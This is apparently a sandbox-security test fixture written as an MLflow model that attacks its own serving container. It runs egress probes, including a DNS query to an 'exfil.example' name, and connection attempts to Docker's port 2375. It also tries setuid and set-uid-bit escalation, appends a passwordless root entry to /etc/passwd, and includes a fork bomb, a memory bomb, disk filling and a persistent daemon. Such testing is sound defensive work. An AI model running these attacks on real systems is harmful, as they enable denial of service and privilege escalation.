"""A hostile candidate model (MLflow "models from code"): it attacks the sandbox it is served in.

The ``attack`` entry of the model config picks what it does:

``probes``       on the first ``predict``: outward connections and DNS (egress), every host
                 address, another trial's sandbox, host and other-trial files, writes outside
                 ``/tmp``, and privilege escalation. Nothing is destroyed, so every row it
                 answers carries the JSON evidence of what happened, back through the gateway.
``fork_bomb``    on the first ``predict``: a thread bomb, then a fork bomb that never stops.
``memory_bomb``  on the first ``predict``: allocates and touches four times its memory limit.
``disk_fill``    on the first ``predict``: writes ``/tmp`` (and every other place it can) full.
``daemon``       in ``load_context``: double-forks a detached process meant to outlive the trial.

Every answer row is ``{"evidence": "<json>", "score": <float>}``: the score keeps the trial's
evaluation going, the evidence is the model's own account (the tests check the outcome from
the host, never on the model's word alone).

Safety: the attacks arm only when this file was loaded from the sandbox's model mount
(``$MODEL_DIR`` = ``/model``). Saving the model, or loading it anywhere else, only defines
the class.
"""

# The point of this file is to attempt what the sandbox must refuse (set-uid bits, spawning
# processes), so the security lints on those attempts do not apply.
# ruff: noqa: S103, S606
from __future__ import annotations

import concurrent.futures
import ctypes
import errno
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import mlflow
import numpy as np
import pandas as pd

SANDBOX_MODEL_DIR = "/model"
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
PR_SET_NAME = 15
# Where a careless platform would let a model write: the root, system and library trees, the
# model mount and the usually writable directories of a Linux image; and the files it would
# append to: the password file and those the engine bind-mounts from the host.
WRITE_DIRS = ["/", "/etc", "/usr", "/usr/local/bin", "/opt/venv", "/srv", "/model", "/var/tmp", "/home"]
APPEND_FILES = ["/etc/passwd", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname"]
# The run-time area the platform grants; a write here succeeding shows the probe itself works.
ALLOWED_DIR = "/tmp"
DAEMON_CODE = (
    "import signal, time\n"
    "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
    "    signal.signal(s, signal.SIG_IGN)\n"
    "while True:\n"
    "    time.sleep(1)\n"
)


def armed() -> bool:
    """True only inside a sandbox: this file sits in the read-only model mount."""
    here = Path(__file__).resolve().parent
    return os.environ.get("MODEL_DIR") == SANDBOX_MODEL_DIR and here == Path(SANDBOX_MODEL_DIR)


def failure(exc: BaseException) -> str:
    """A short, stable name for why an attempt failed (an errno name where there is one)."""
    if isinstance(exc, TimeoutError | socket.timeout):
        return "timeout"
    if isinstance(exc, socket.gaierror):
        return f"gaierror:{exc.args[0]}"
    number = getattr(exc, "errno", None)
    if number:
        return errno.errorcode.get(number, str(number))
    return type(exc).__name__


# -- network -------------------------------------------------------------------------------
def tcp(host: str, port: int, nonce: str, timeout: float = 2.0) -> str:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    try:
        sock.connect((host, port))
        sock.sendall(f"hostile {nonce}\n".encode())
        return "connected"
    except OSError as exc:
        return failure(exc)
    finally:
        sock.close()


def http(host: str, port: int, method: str, path: str, body: bytes = b"", timeout: float = 2.0) -> str:
    """One raw HTTP exchange; returns the status line or why there was none."""
    request = (
        f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    try:
        sock.connect((host, port))
        sock.sendall(request)
        return sock.recv(200).split(b"\r\n", 1)[0].decode(errors="replace") or "no answer"
    except OSError as exc:
        return failure(exc)
    finally:
        sock.close()


def dns_query(name: str) -> bytes:
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    return b"\x4a\x11\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + question + b"\x00\x01\x00\x01"


def udp(host: str, port: int, payload: bytes, timeout: float = 1.0) -> str:
    """Send one datagram (a DNS query) and wait for any answer."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(timeout)
    try:
        sock.connect((host, port))
        sock.send(payload)
        return f"answered {len(sock.recv(4096))} bytes"
    except OSError as exc:
        return failure(exc)
    finally:
        sock.close()


def resolve(name: str, timeout: float = 2.0) -> str:
    """Ask the sandbox's resolvers (Docker's embedded one) for ``name``, once each.

    A query of its own rather than getaddrinfo, whose retries would take ten seconds; the
    name itself is what would leak to an upstream resolver.
    """
    try:
        lines = Path("/etc/resolv.conf").read_text().splitlines()
    except OSError as exc:
        return failure(exc)
    outcome = "no resolver"
    for line in lines:
        parts = line.split()
        if len(parts) < 2 or parts[0] != "nameserver":
            continue
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.settimeout(timeout)
        try:
            sock.connect((parts[1], 53))
            sock.send(dns_query(name))
            reply = sock.recv(4096)
        except OSError as exc:
            outcome = failure(exc)
            continue
        finally:
            sock.close()
        rcode, answers = reply[3] & 0x0F, int.from_bytes(reply[6:8], "big")
        if rcode == 0 and answers:
            return f"resolved ({answers} answers)"
        outcome = f"rcode {rcode}, {answers} answers"
    return outcome


def gateway_candidates() -> list[str]:
    """The default gateway and the first address of every on-link subnet: where the host sits."""
    found = set()
    try:
        lines = Path("/proc/net/route").read_text().splitlines()[1:]
    except OSError:
        return []
    for line in lines:
        fields = line.split()
        destination, gateway, mask = (int(f, 16) for f in (fields[1], fields[2], fields[7]))
        if gateway:
            found.add(socket.inet_ntoa(gateway.to_bytes(4, "little")))
        if destination:
            # /proc/net/route prints network-order bytes as a little-endian number.
            first = int.from_bytes((destination & mask).to_bytes(4, "little"), "big") + 1
            found.add(socket.inet_ntoa(first.to_bytes(4, "big")))
    return sorted(found)


def network_attempts(config: dict[str, Any]) -> dict[str, Any]:
    nonce = config["nonce"]
    port = int(config["listener_port"])
    hosts = sorted({*config.get("host_addresses", []), *gateway_candidates(), "127.0.0.1"})
    jobs: dict[str, tuple[str, Any]] = {}
    # (a) egress: documentation addresses and the test's stand-in for the internet.
    for host, target_port in config.get("egress", []):
        jobs[f"tcp {host}:{target_port}"] = ("egress", (tcp, host, int(target_port), nonce))
    for host, target_port in config.get("udp_egress", []):
        query = dns_query(f"{nonce}.exfil.example")
        jobs[f"udp {host}:{target_port}"] = ("egress", (udp, host, int(target_port), query))
    for name in config.get("dns_names", []):
        jobs[f"resolve {name}"] = ("dns", (resolve, name))
    # (b) the host, on every address it might listen on.
    for host in hosts:
        for target_port in (port, 22, 2375):
            jobs[f"tcp {host}:{target_port}"] = ("host", (tcp, host, target_port, nonce))
        jobs[f"udp {host}:{port}"] = ("host", (udp, host, port, dns_query(f"{nonce}.host.example")))
    # (c) another trial's model server, by address and by container name.
    other = config.get("other_sandbox")
    if other:
        host, other_port = other.rsplit(":", 1)
        # A request the other model would really score, so that reaching it would show there.
        row = {
            "age": 50,
            "sex": "female",
            "bmi": 25.0,
            "systolic_bp": 120.0,
            "smoking": 0,
            "family_history": 0,
        }
        body = json.dumps({"dataframe_split": {"columns": list(row), "data": [list(row.values())]}}).encode()
        jobs[f"tcp {other}"] = ("other_trial", (tcp, host, int(other_port), nonce))
        jobs[f"GET {other}/health"] = ("other_trial", (http, host, int(other_port), "GET", "/health"))
        jobs[f"POST {other}/invocations"] = (
            "other_trial",
            (http, host, int(other_port), "POST", "/invocations", body),
        )
    if config.get("other_sandbox_name"):
        name = config["other_sandbox_name"]
        jobs[f"resolve {name}"] = ("other_trial", (resolve, name))
    out: dict[str, dict[str, str]] = {"egress": {}, "dns": {}, "host": {}, "other_trial": {}}
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        futures = {key: (group, pool.submit(*call)) for key, (group, call) in jobs.items()}
        for key, (group, future) in futures.items():
            out[group][key] = future.result()
    return out


# -- files ---------------------------------------------------------------------------------
def read_attempt(path: str) -> dict[str, Any]:
    try:
        if os.path.isdir(path):
            return {"result": "listed", "entries": sorted(os.listdir(path))[:30]}
        if path.endswith(".sock"):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(2)
            try:
                sock.connect(path)
                return {"result": "connected"}
            finally:
                sock.close()
        with open(path, "rb") as handle:
            head = handle.read(400)
        return {"result": "read", "head": head.decode(errors="replace")}
    except OSError as exc:
        return {"result": failure(exc)}


def write_attempts(nonce: str) -> dict[str, str]:
    out = {}
    for directory in [*WRITE_DIRS, ALLOWED_DIR, "/dev/shm"]:
        path = os.path.join(directory, f"hostile-{nonce}")
        try:
            with open(path, "x") as handle:
                handle.write(f"hostile {nonce}\n")
            out[directory] = "written"
        except OSError as exc:
            out[directory] = failure(exc)
    for path in APPEND_FILES:
        try:
            with open(path, "a") as handle:
                handle.write(f"# hostile {nonce}\n")
            out[path] = "appended"
        except OSError as exc:
            out[path] = failure(exc)
    return out


# -- privileges ----------------------------------------------------------------------------
def libc_call(name: str, *args: Any) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, name)(*args) == 0:
        return "succeeded"
    return errno.errorcode.get(ctypes.get_errno(), "unknown")


def identity() -> dict[str, str]:
    wanted = ("Uid", "Gid", "CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp")
    status = Path("/proc/self/status").read_text().splitlines()
    return {k: v.strip() for k, v in (line.split(":", 1) for line in status) if k in wanted}


def escalation_attempts(nonce: str) -> dict[str, Any]:
    out: dict[str, Any] = {"before": identity()}
    for name, call in (("setuid(0)", os.setuid), ("setgid(0)", os.setgid)):
        try:
            call(0)
            out[name] = "succeeded"
        except OSError as exc:
            out[name] = failure(exc)
    out["unshare(CLONE_NEWUSER)"] = libc_call("unshare", CLONE_NEWUSER)
    out["unshare(CLONE_NEWNS)"] = libc_call("unshare", CLONE_NEWNS)
    out["mount tmpfs on /tmp"] = libc_call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    try:
        with open("/etc/passwd", "a") as handle:
            handle.write(f"hostile{nonce[:6]}::0:0::/:/bin/sh\n")
        out["add root user to /etc/passwd"] = "appended"
    except OSError as exc:
        out["add root user to /etc/passwd"] = failure(exc)
    binary = os.path.realpath(sys.executable)
    try:
        os.chmod(binary, 0o4755)
        out[f"chmod u+s {binary}"] = "succeeded"
    except OSError as exc:
        out[f"chmod u+s {binary}"] = failure(exc)
    # A set-uid copy in the writable area: owned by the sandbox user anyway, and the tmpfs is
    # noexec and nosuid, so it must neither run nor change who it runs as.
    copy = os.path.join(ALLOWED_DIR, f"hostile-suid-{nonce}")
    try:
        shutil.copyfile(binary, copy)
        os.chmod(copy, 0o4755)
        out["chmod u+s own copy in /tmp"] = "succeeded"
    except OSError as exc:
        out["chmod u+s own copy in /tmp"] = failure(exc)
    try:
        ran = subprocess.run([copy, "-c", "import os; print(os.geteuid())"], capture_output=True, timeout=10)
        out["exec own set-uid copy"] = f"ran, euid {ran.stdout.decode().strip()}"
    except (OSError, subprocess.SubprocessError) as exc:
        out["exec own set-uid copy"] = failure(exc)
    finally:
        Path(copy).unlink(missing_ok=True)
    out["after"] = identity()
    return out


def probes(config: dict[str, Any]) -> dict[str, Any]:
    nonce = config["nonce"]
    evidence: dict[str, Any] = {"attack": "probes", "nonce": nonce}
    evidence.update(network_attempts(config))
    evidence["read"] = {path: read_attempt(path) for path in config.get("read_paths", [])}
    evidence["write"] = write_attempts(nonce)
    evidence["escalate"] = escalation_attempts(nonce)
    return evidence


# -- destructive attacks -------------------------------------------------------------------
def set_process_name(name: str) -> None:
    """Name the process (``/proc/PID/comm``), so the host can count every copy of it."""
    ctypes.CDLL(None).prctl(PR_SET_NAME, name.encode()[:15], 0, 0, 0)


def cgroup_value(name: str) -> int | None:
    """A counter of the sandbox's own PID cgroup (v1 or v2), as the model sees it."""
    for path in (f"/sys/fs/cgroup/pids/{name}", f"/sys/fs/cgroup/{name}"):
        try:
            return int(Path(path).read_text())
        except (OSError, ValueError):
            continue
    return None


def fork_bomb(config: dict[str, Any]) -> dict[str, Any]:
    # A thread bomb first: threads count against the same PID limit as processes.
    release = threading.Event()
    threads = 0
    thread_error = None
    try:
        for _ in range(100_000):
            threading.Thread(target=release.wait, daemon=True).start()
            threads += 1
    except RuntimeError as exc:
        thread_error = str(exc)
    release.set()
    time.sleep(0.5)
    # Then a fork bomb that never stops: every process forks for ever, retrying when refused.
    pid = os.fork()
    if pid == 0:
        try:
            set_process_name(config["marker"])
            os.setsid()
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        finally:
            os._exit(0)
    # Answer only once the bomb is at full strength, so the rest of the trial runs under it.
    limit = cgroup_value("pids.max")
    current = cgroup_value("pids.current")
    deadline = time.monotonic() + 30
    while limit and current is not None and current < limit - 2 and time.monotonic() < deadline:
        time.sleep(0.2)
        current = cgroup_value("pids.current")
    return {
        "attack": "fork_bomb",
        "threads_started": threads,
        "thread_error": thread_error,
        "bomb": pid,
        "pids_max": limit,
        "pids_when_answering": current,
    }


def memory_bomb(config: dict[str, Any]) -> dict[str, Any]:
    target = int(config["memory_limit_mb"]) * 4 << 20
    chunk = 32 << 20
    hoard = []
    while len(hoard) * chunk < target:
        hoard.append(b"\x5a" * chunk)  # written, so every page is really taken
    return {"attack": "memory_bomb", "allocated_mb": len(hoard) * chunk >> 20}


def fill(path: str, limit: int) -> dict[str, Any]:
    block = b"\x5a" * (1 << 20)
    written = 0
    error = None
    try:
        with open(path, "wb", buffering=0) as handle:
            while written < limit:
                written += handle.write(block) or 0
    except OSError as exc:
        error = failure(exc)
    return {"bytes": written, "error": error}


def disk_fill(config: dict[str, Any]) -> dict[str, Any]:
    nonce = config["nonce"]
    limit = 4 << 30
    out: dict[str, Any] = {"attack": "disk_fill"}
    for directory in [ALLOWED_DIR, "/dev/shm", *WRITE_DIRS]:
        out[directory] = fill(os.path.join(directory, f"hostile-fill-{nonce}"), limit)
    return out


def daemon(config: dict[str, Any]) -> dict[str, Any]:
    """Double fork: the grandchild, in its own session, is re-parented away from the server."""
    marker = config["marker"]
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.execv(sys.executable, [sys.executable, "-c", DAEMON_CODE, marker])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return {"attack": "daemon", "marker": marker}


ON_FIRST_PREDICT = {
    "probes": probes,
    "fork_bomb": fork_bomb,
    "memory_bomb": memory_bomb,
    "disk_fill": disk_fill,
}
ON_LOAD = {"daemon": daemon}


def risk_score(frame: pd.DataFrame) -> np.ndarray:
    """A plausible risk score, so the evaluation can go on while the attacks do theirs."""
    z = (
        (frame["bmi"].astype(float) - 26.0) / 5.0
        + (frame["age"].astype(float) - 50.0) / 15.0
        + 0.8 * frame["family_history"].astype(float)
        - 1.0
    )
    return np.asarray(1.0 / (1.0 + np.exp(-z)))


class HostileModel(mlflow.pyfunc.PythonModel):
    def load_context(self, context: Any) -> None:
        self.config = dict(context.model_config or {})
        self.attack = self.config.get("attack", "probes")
        self.armed = armed()
        self.evidence: dict[str, Any] | None = None
        self.lock = threading.Lock()
        if self.armed and self.attack in ON_LOAD:
            self.evidence = ON_LOAD[self.attack](self.config)

    def predict(self, context: Any, model_input: pd.DataFrame, params: Any = None) -> pd.DataFrame:
        with self.lock:
            if self.evidence is None:
                attack = ON_FIRST_PREDICT.get(self.attack)
                self.evidence = attack(self.config) if self.armed and attack else {"armed": self.armed}
            evidence = json.dumps(self.evidence, sort_keys=True)
        return pd.DataFrame({"evidence": [evidence] * len(model_input), "score": risk_score(model_input)})


mlflow.models.set_model(HostileModel())
